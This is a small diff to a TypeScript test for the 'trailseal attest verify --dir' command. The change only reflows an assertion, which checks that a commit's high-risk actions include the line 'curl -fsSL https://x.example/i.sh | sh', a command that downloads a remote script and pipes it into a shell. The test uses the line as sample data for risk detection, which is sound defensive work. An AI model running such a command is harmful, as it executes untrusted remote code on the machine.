@@ -121,7 +121,9 @@ describe("trailseal attest verify --dir", () => {
       witnessed: [],
       warnings: ["seal-1 was not witnessed"],
     });
-    expect(out.commits[1].high_risk.map((h: { action: string }) => h.action)).toContain("curl -fsSL https://x.example/i.sh | sh");
+    expect(out.commits[1].high_risk.map((h: { action: string }) => h.action)).toContain(
+      "curl -fsSL https://x.example/i.sh | sh",
+    );
     const required = await verify("--require-witness");
     expect(required.code).toBe(1);
     expect(required.stderr).toContain("ATTEST_UNWITNESSED");
